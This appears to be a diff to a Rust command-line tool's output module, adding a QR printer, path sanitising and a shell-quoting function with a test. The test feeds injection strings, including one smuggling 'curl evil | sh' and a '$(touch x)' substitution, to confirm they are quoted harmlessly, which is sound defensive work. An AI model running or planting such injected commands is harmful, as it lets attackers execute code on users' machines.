@@ -4,6 +4,7 @@
 //! errors for people go to standard error. Text from vaults reaches a terminal without control characters.
 
 use std::io::{self, IsTerminal as _, Write as _};
+use std::path::Path;
 use std::sync::{Arc, OnceLock};
 
 use lockstep_client::tools::is_hidden;
@@ -94,6 +95,17 @@ impl Output {
         }
     }
 
+    /// A QR code for people, black on white whatever the terminal's colours are, on standard error.
+    pub fn qr(&self, modules: &str) {
+        const INK: &str = "\u{1b}[30;107m";
+        const PLAIN: &str = "\u{1b}[0m";
+        let mut err = io::stderr().lock();
+        for line in modules.lines() {
+            // Nobody can be told that standard error is closed.
+            let _ = writeln!(err, "{INK}{}{PLAIN}", clean_line(line));
+        }
+    }
+
     /// A failure: a sentence on standard error, or with `--json` `{"error":{"code","message"}}` on standard output, unless
     /// that cannot be written. What a server said follows on a line of its own, or is the member `server_says`.
     pub fn failure(&self, failure: &Failure) {
@@ -145,6 +157,20 @@ fn escaped(json: &str) -> String {
     escaped
 }
 
+/// A path on one line: whoever made a file chose its name.
+pub fn shown_path(path: &Path) -> String {
+    clean_line(&path.display().to_string())
+}
+
+/// A word of a command that a message proposes, as a shell takes it: `word` alone where it is plain, else quoted.
+pub fn shell_word(word: &str) -> String {
+    let is_plain = |character: char| character.is_ascii_alphanumeric() || "/_.:=@-".contains(character);
+    match !word.is_empty() && word.chars().all(is_plain) {
+        true => word.to_owned(),
+        false => format!("'{}'", clean_line(word).replace('\'', r"'\''")),
+    }
+}
+
 /// A message as a sentence: capital first, full stop last.
 pub fn sentence(message: &str) -> String {
     let mut characters = clean(message).trim().chars().collect::<Vec<_>>();
@@ -172,6 +198,21 @@ mod tests {
             assert_eq!(serde_json::from_str::<String>(&escaped).unwrap(), text);
             assert!(escaped.contains("é🙂"), "{escaped}");
         }
+    }
+
+    #[test]
+    fn a55_a_proposed_command_does_nothing_but_what_it_says() {
+        for (word, shown) in [
+            ("tags/Home", "tags/Home"),
+            ("", "''"),
+            ("two words", "'two words'"),
+            ("x'; curl evil | sh; '", r"'x'\''; curl evil | sh; '\'''"),
+            ("tags/$(touch x)", "'tags/$(touch x)'"),
+            ("a\nlockstep: done", "'a lockstep: done'"),
+        ] {
+            assert_eq!(shell_word(word), shown);
+        }
+        assert_eq!(shown_path(Path::new("a\u{1b}[2J\nb")), "a\u{fffd}[2J b");
     }
 
     #[test]
